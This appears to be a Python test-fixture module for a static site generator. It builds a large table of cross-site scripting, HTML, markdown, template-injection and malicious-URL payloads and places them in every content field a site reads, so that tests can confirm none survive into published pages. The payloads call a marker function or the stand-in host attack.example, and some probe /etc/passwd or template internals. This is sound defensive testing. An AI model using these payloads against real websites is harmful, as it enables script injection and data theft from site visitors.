"""Attacks: what a stranger may write into a source, and every place a site takes words from.

A payload calls `hit()` or asks another host for something where it comes alive. `{n}` is its
number, so that a test can name the one that got through. A place turns a payload into files of a
site. Their product is the table; nothing here is shown to a reader of the real site.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from typing import NamedTuple

from generator.read.unseen import UNSEEN

MARKER = "hit"

MARKUP = (
    "<script>hit({n})</script>",
    "<ScRiPt src=https://attack.example/{n}.js></sCrIpT>",
    "<script >hit({n})</script >",
    "<script\x0chit({n})//</script>",
    "<<script>hit({n})//<</script>",
    "<scr<script>ipt>hit({n})</scr</script>ipt>",
    "</title><script>hit({n})</script>",
    "</script><script>hit({n})</script>",
    "--><script>hit({n})</script><!--",
    "]]><script>hit({n})</script><![CDATA[",
    "</textarea><script>hit({n})</script>",
    "</style><script>hit({n})</script>",
    "<img src=x onerror=hit({n})>",
    "<img src=https://attack.example/{n}.png>",
    "<img/src/onerror=hit({n})>",
    "<img src='x' onerror='hit({n})' alt='图'>",
    "<img srcset='https://attack.example/{n}.png 2x' src='a.png'>",
    "<image href='https://attack.example/{n}.png'>",
    "<picture><source srcset=https://attack.example/{n}.png><img src=a.png></picture>",
    "<svg onload=hit({n})></svg>",
    "<svg><script>hit({n})</script></svg>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:hit({n})'><text y=20>点</text></a></svg>",
    "<svg><foreignObject><iframe src='javascript:hit({n})'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit({n})></svg>#x'></use></svg>",
    "<svg><style><img src=x onerror=hit({n})></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit({n})></style></table></math>",
    "<math href='javascript:hit({n})'>点</math>",
    "<math><mi//xlink:href='data:x,<script>hit({n})</script>'>",
    "<iframe src='javascript:hit({n})'></iframe>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<object data='javascript:hit({n})'></object>",
    "<object data='https://attack.example/{n}.swf'></object>",
    "<embed src='https://attack.example/{n}.swf'>",
    "<applet code=hit codebase='https://attack.example/{n}'></applet>",
    "<video autoplay src='https://attack.example/{n}.mp4' onloadstart=hit({n})></video>",
    "<audio src=x onerror=hit({n})></audio>",
    "<video><source onerror=hit({n})></video>",
    "<video poster='https://attack.example/{n}.png'></video>",
    "<body onload=hit({n})>",
    "<body background='https://attack.example/{n}.png'>",
    "<table background='https://attack.example/{n}.png'><tr><td>格</td></tr></table>",
    "<details open ontoggle=hit({n})><summary>看</summary>详</details>",
    "<marquee onstart=hit({n})>走</marquee>",
    "<input autofocus onfocus=hit({n})>",
    "<select autofocus onfocus=hit({n})></select>",
    "<button autofocus onfocus=hit({n})>按</button>",
    "<form action='https://attack.example/{n}'><input name=q><button>送</button></form>",
    "<form id=x></form><button form=x formaction='javascript:hit({n})'>点</button>",
    "<isindex action='javascript:hit({n})' type=submit>",
    "<keygen autofocus onfocus=hit({n})>",
    "<p onclick=hit({n}) onmouseover=hit({n}) onpointerenter=hit({n})>段</p>",
    "<p style=\"background:url('https://attack.example/{n}.png')\">段</p>",
    "<p style='behavior:url(#x);-moz-binding:url(https://attack.example/{n}.xml)'>段</p>",
    "<p id=content class=passage name=hit>段</p>",
    "<style>@import 'https://attack.example/{n}.css';</style>",
    "<style>*{{background:url(https://attack.example/{n}.png)}}</style>",
    "<link rel=stylesheet href='https://attack.example/{n}.css'>",
    "<link rel=prefetch href='https://attack.example/{n}'>",
    "<link rel=import href='https://attack.example/{n}.html'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit({n})'>",
    "<meta http-equiv=refresh content='0;url=https://attack.example/{n}'>",
    "<meta http-equiv=Set-Cookie content='a={n}'>",
    "<base href='https://attack.example/{n}/'>",
    "<noscript><p title='</noscript><img src=x onerror=hit({n})>'></noscript>",
    "<template><script>hit({n})</script></template>",
    "<template shadowrootmode=open><script>hit({n})</script></template>",
    "<xmp><img src=x onerror=hit({n})></xmp>",
    "<plaintext><script>hit({n})</script>",
    "<comment><img src='</comment><img src=x onerror=hit({n})>'></comment>",
    "<!--[if gte IE 4]><script>hit({n})</script><![endif]-->",
    "<!--><script>hit({n})</script>-->",
    "<!--!><img src=x onerror=hit({n})>",
    "<![><img src=x onerror=hit({n})>]",
    "<?xml-stylesheet href='javascript:hit({n})'?>",
    "<%<!--'%><script>hit({n});</script -->",
    "<a href='javascript:hit({n})'>点这里</a>",
    "<a href='JaVaScRiPt:hit({n})'>点这里</a>",
    "<a href=' \x01javascript:hit({n})'>点这里</a>",
    "<a href='java\tscript:hit({n})'>点这里</a>",
    "<a href='java&#10;script:hit({n})'>点这里</a>",
    "<a href='&#x6A;avascript&colon;hit({n})'>点这里</a>",
    "<a href='vbscript:hit({n})'>点这里</a>",
    "<a href='data:text/html,<script>hit({n})</script>'>点这里</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=='>点这里</a>",
    "<a href='blob:https://attack.example/{n}'>点这里</a>",
    "<a href='file:///etc/passwd'>点这里</a>",
    "<a href='view-source:javascript:hit({n})'>点这里</a>",
    "<a href='//attack.example/{n}'>点这里</a>",
    "<a href='\\\\attack.example\\{n}'>点这里</a>",
    "<a href='https://a.example/\" onclick=\"hit({n})'>点这里</a>",
    "<a href='https://a.example/' target=_blank ping='https://attack.example/{n}'>点这里</a>",
    "<a href='#' onclick=hit({n})>点这里</a>",
    "<a id=x href='https://a.example'><img src=x onerror=hit({n})></a>",
    "<map name=m><area href='javascript:hit({n})' shape=default></map><img usemap=#m src=a.png>",
    "<q cite='javascript:hit({n})'>引</q><blockquote cite='javascript:hit({n})'>引</blockquote>",
    "<ruby>汉<rt><script>hit({n})</script></rt></ruby>",
    "<h2><img src=x onerror=hit({n})>标题</h2>",
    "<td><img src=x onerror=hit({n})></td>",
    "<li onmouseover=hit({n})>项</li>",
    "<p>一<b>二<script>hit({n})</script></b></p>",
    "<div hidden><script>hit({n})</script></div>",
    "&lt;script&gt;hit({n})&lt;/script&gt;",
    "&amp;lt;script&amp;gt;hit({n})&amp;lt;/script&amp;gt;",
    "&#60;script&#62;hit({n})&#60;/script&#62;",
    "&#x3c;img src=x onerror=hit({n})&#x3e;",
    "\\u003cscript\\u003ehit({n})\\u003c/script\\u003e",
    "＜script＞hit({n})＜/script＞",
    "+ADw-script+AD4-hit({n})+ADw-/script+AD4-",
    "\u0000<scr\u0000ipt>hit({n})</script>",
    "<x\u2028onerror=hit({n})>",
    "‮<script>hit({n})</script>‬",
)
ATTRIBUTES = (
    '" onmouseover="hit({n})" x="',
    "' onmouseover='hit({n})' x='",
    '"><script>hit({n})</script>',
    "'><img src=x onerror=hit({n})>",
    "` onmouseover=hit({n}) x=`",
    '" autofocus onfocus="hit({n})" tabindex="1',
    '" style="background:url(https://attack.example/{n}.png)" x="',
)
MARKDOWN = (
    "[点](javascript:hit({n}))",
    "[点](<javascript:hit({n})>)",
    "[点](javascript&#58;hit({n}))",
    "[点](JAVASCRIPT:hit({n}) 'x')",
    "[点](data:text/html,<script>hit({n})</script>)",
    "![图](javascript:hit({n}))",
    "![图](https://attack.example/{n}.png)",
    '![图](x"onerror="hit({n}))',
    '!["onerror="hit({n})](a.png)',
    '[点](https://a.example "" onmouseover="hit({n})")',
    "[一]: javascript:hit({n})\n\n[一]",
    "<javascript:hit({n})>",
    '<https://a.example/"onmouseover="hit({n})>',
    "`<script>hit({n})</script>`",
    "```\n<script>hit({n})</script>\n```",
    "    <script>hit({n})</script>",
    "| <script>hit({n})</script> | 乙 |\n| --- | --- |\n| <img src=x onerror=hit({n})> | 丁 |",
    "[^1]\n\n[^1]: <img src=x onerror=hit({n})>",
    "# <img src=x onerror=hit({n})>标题",
    "- <svg onload=hit({n})>",
    "> <iframe src=javascript:hit({n})>",
)
TEMPLATES = (
    "{{{{ 7 * 7 * {n} }}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{% include '/etc/passwd' %}}",
    "{{{{< script >}}}}hit({n}){{{{< /script >}}}}",
    "${{hit({n})}}",
    "<%= hit({n}) %>",
    "%(hit)s {{0}} {{hit}}",
)
WORDS = (*ATTRIBUTES, *TEMPLATES, *MARKUP[:14], *MARKUP[76:92], *MARKUP[-10:])
ADDRESSES = (
    "javascript:hit({n})",
    " javascript:hit({n})",
    "java\nscript:hit({n})",
    "JAVASCRIPT://%0ahit({n})",
    "data:text/html,<script>hit({n})</script>",
    "vbscript:hit({n})",
    "file:///etc/passwd",
    "//attack.example/{n}",
    'https://a.example/"onmouseover="hit({n})',
    "https://a.example/'><script>hit({n})</script>",
    "https://[bad",
    "http://a.example:99999999/",
)

SENTENCE = "南门菜场上周换了新秤，称完就知道几斤几两，三百个摊位都装好了。"


class Attack(NamedTuple):
    number: int
    place: str
    payload: str
    files: Mapping[str, bytes]  # path in the site folder → contents


def _yaml(text: str) -> str:
    return json.dumps(text)  # a JSON string is a YAML string


def _html(n: int, payload: str) -> dict[str, str]:
    body = f"<div><h1>菜场换秤{n}</h1><p>{SENTENCE}{n}</p>{payload}<p>{SENTENCE * 2}</p></div>"
    return {f"content/articles/h{n}.html": f"<html><body>{body}</body></html>"}


def _inside(n: int, payload: str) -> dict[str, str]:
    words = f"<div><p>{SENTENCE}{n}{payload}{SENTENCE}</p><p>{SENTENCE}</p></div>"
    return {f"content/articles/i{n}.html": words}


def _text(n: int, payload: str) -> dict[str, str]:
    return {f"content/articles/t{n}.txt": f"菜场换秤{n}\n\n{SENTENCE}{payload}{SENTENCE}\n"}


def _markdown(n: int, payload: str) -> dict[str, str]:
    return {
        f"content/articles/m{n}.md": f"# 菜场换秤{n}\n\n{SENTENCE}\n\n{payload}\n\n{SENTENCE}\n"
    }


def _front(key: str, *, many: bool = False) -> Callable[[int, str], dict[str, str]]:
    def files(n: int, payload: str) -> dict[str, str]:
        value = f"[{_yaml(payload)}]" if many else _yaml(payload)
        title = "" if key == "title" else f"title: 菜场换秤{n}\n"
        words = f"---\n{title}{key}: {value}\n---\n{SENTENCE}{n}\n\n{SENTENCE * 2}\n"
        return {f"content/articles/f{n}.md": words}

    return files


def _meta(n: int, payload: str) -> dict[str, str]:
    value = payload.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
    names = ("author", "description", "keywords", "og:title", "og:site_name", "og:url")
    tags = "".join(f'<meta name="{name}" property="{name}" content="{value}">' for name in names)
    words = f"<p>{SENTENCE}{n}</p><p>{SENTENCE * 2}</p>"
    page = f"<html><head><title>{value}</title>{tags}</head><body><article>{words}</article></body>"
    return {f"content/articles/meta{n}.html": page}


def _json_ld(n: int, payload: str) -> dict[str, str]:
    data = json.dumps(
        {
            "@type": "NewsArticle",
            "headline": payload,
            "author": {"name": payload},
            "publisher": {"name": payload, "url": payload},
            "datePublished": payload,
        }
    ).replace("</", "<\\/")
    words = f"<p>{SENTENCE}{n}</p><p>{SENTENCE * 2}</p>"
    head = f'<script type="application/ld+json">{data}</script>'
    return {f"content/articles/ld{n}.html": f"<html><head>{head}</head><body>{words}</body></html>"}


def _feed(n: int, payload: str) -> dict[str, str]:
    value = payload.replace("]]>", "]] >")
    item = (
        f"<item><title><![CDATA[{value}]]></title><link><![CDATA[{value}]]></link>"
        f"<author><![CDATA[{value}]]></author><description><![CDATA[<p>{SENTENCE}{n}</p>{value}"
        f"<p>{SENTENCE * 2}</p>]]></description></item>"
    )
    return {f"content/articles/feed{n}.xml": item}


def _sidecar(key: str) -> Callable[[int, str], dict[str, str]]:
    def files(n: int, payload: str) -> dict[str, str]:
        value = f"[{_yaml(payload)}]" if key in ("authors", "names") else _yaml(payload)
        return {
            f"content/articles/s{n}.txt": f"菜场换秤{n}\n\n{SENTENCE}{n}\n\n{SENTENCE * 2}\n",
            f"content/articles/s{n}.edit.yaml": f"{key}: {value}\n",
        }

    return files


def _correction(n: int, payload: str) -> dict[str, str]:
    return {
        f"content/articles/c{n}.txt": f"菜场换秤{n}\n\n{SENTENCE}{n}号改这里。\n\n{SENTENCE * 2}\n",
        f"content/articles/c{n}.edit.yaml": (
            f"corrections:\n  - find: 改这里\n    replace: {_yaml(payload)}\n"
            f"    why: {_yaml(payload)}\n"
        ),
    }


PLACES: dict[str, tuple[tuple[str, ...], Callable[[int, str], dict[str, str]]]] = {
    "html between paragraphs": (MARKUP, _html),
    "html in a paragraph": (MARKUP, _inside),
    "plain text": (MARKUP, _text),
    "markdown": ((*MARKDOWN, *MARKUP), _markdown),
    "front matter title": (WORDS, _front("title")),
    "front matter author": (WORDS, _front("authors", many=True)),
    "front matter publisher": (WORDS, _front("publisher")),
    "front matter tags": (WORDS, _front("tags", many=True)),
    "front matter date": (ATTRIBUTES, _front("date")),
    "front matter slug": (
        (*ATTRIBUTES, "../../../../x{n}", "/etc/x{n}", "CON", "."),
        _front("slug"),
    ),
    "front matter address": (ADDRESSES, _front("url")),
    "meta tags": (WORDS, _meta),
    "meta addresses": (ADDRESSES, _meta),
    "JSON-LD": ((*WORDS, *ADDRESSES), _json_ld),
    "a feed's item": ((*WORDS, *ADDRESSES), _feed),
    "sidecar title": (WORDS, _sidecar("title")),
    "sidecar authors": (WORDS, _sidecar("authors")),
    "sidecar publisher": (WORDS, _sidecar("publisher")),
    "sidecar summary": (WORDS, _sidecar("summary")),
    "sidecar note": (ATTRIBUTES, _sidecar("note")),
    "sidecar names": (ATTRIBUTES, _sidecar("names")),
    "sidecar address": (ADDRESSES, _sidecar("url")),
    "sidecar correction": (WORDS, _correction),
}


def attacks(share: int = 1) -> Iterator[Attack]:
    """Each payload in each place it fits, or every `share`th: other ones in each place."""
    number = 0
    for at, (place, (payloads, files)) in enumerate(PLACES.items()):
        for pattern in payloads[at % share :: share]:
            number += 1
            payload = pattern.format(n=number)
            made = files(number, payload)
            contents = {path: text.encode("utf-8") for path, text in made.items()}
            yield Attack(number, place, payload, contents)


def site_files() -> dict[str, bytes]:
    """The site's own files with a payload in every text an editor may write."""
    numbers = iter(range(90_000, 99_999))
    # What nobody sees is refused in an editor's file: see test_unseen.py.
    patterns = [pattern for pattern in WORDS if not UNSEEN.search(pattern)]
    words = [pattern.format(n=next(numbers)) for pattern in patterns]

    def word(at: int) -> str:
        return _yaml(words[at % len(words)])

    themes = "".join(
        f"  - id: t{at}\n    title: {{zh-Hans: {word(at)}, en: {word(at + 7)}}}\n"
        f"    description: {word(at + 3)}\n    words: [菜场, {word(at + 5)}]\n"
        for at in range(0, len(words), 4)
    )
    site = (
        f"title: {{zh-Hans: {word(0)}, en: {word(1)}}}\ndescription: {word(2)}\n"
        f"base_url: https://digest.example/a/\neditions: [zh-Hans, zh-Hant, en]\nthemes:\n{themes}"
    )
    topics = "topics:\n" + "".join(
        f"  - name: {word(at)}\n    aliases: [换秤{at}, 三百个摊位]\n"
        f"    description: {word(at + 1)}\n"
        for at in range(0, len(words), 3)
    )
    topics += "  - name: 新秤\n    slug: new-scale\n    description: " + word(6) + "\n"
    glossary = "pairs:\n" + "".join(
        f"  - {{hans: 南门{at}, hant: {word(at)}}}\n" for at in range(0, len(words), 5)
    )
    glossary += f"  - {{hans: 新秤, hant: {word(9)}}}\n"
    page = (
        "---\ntitle: "
        + word(12)
        + "\n---\n"
        + "\n\n".join(pattern.format(n=next(numbers)) for pattern in (*MARKDOWN, *MARKUP))
    )
    escaped = words[13].replace("\\", "\\\\").replace('"', '\\"')
    entries = "".join(
        f'msgctxt "{context}"\nmsgid "{chinese}"\nmsgstr "{escaped}"\n\n'
        for context, chinese in (("title", "菜场换秤"), ("publisher", "南门报"))
    )
    catalogue = f'msgid ""\nmsgstr "Content-Type: text/plain; charset=UTF-8\\n"\n\n{entries}'
    files = {
        "site.yaml": site,
        "content/topics.yaml": topics,
        "content/glossary.yaml": glossary,
        "content/pages/about.md": page,
        "content/pages/about.en.md": page,
        "content/articles/plain.txt": f"菜场换秤\n\n{SENTENCE}\n\n来源：南门报\n",
        "content/translations/en/plain.po": catalogue,
        "content/translations/en/site.po": catalogue,
    }
    return {path: text.encode("utf-8") for path, text in files.items()}
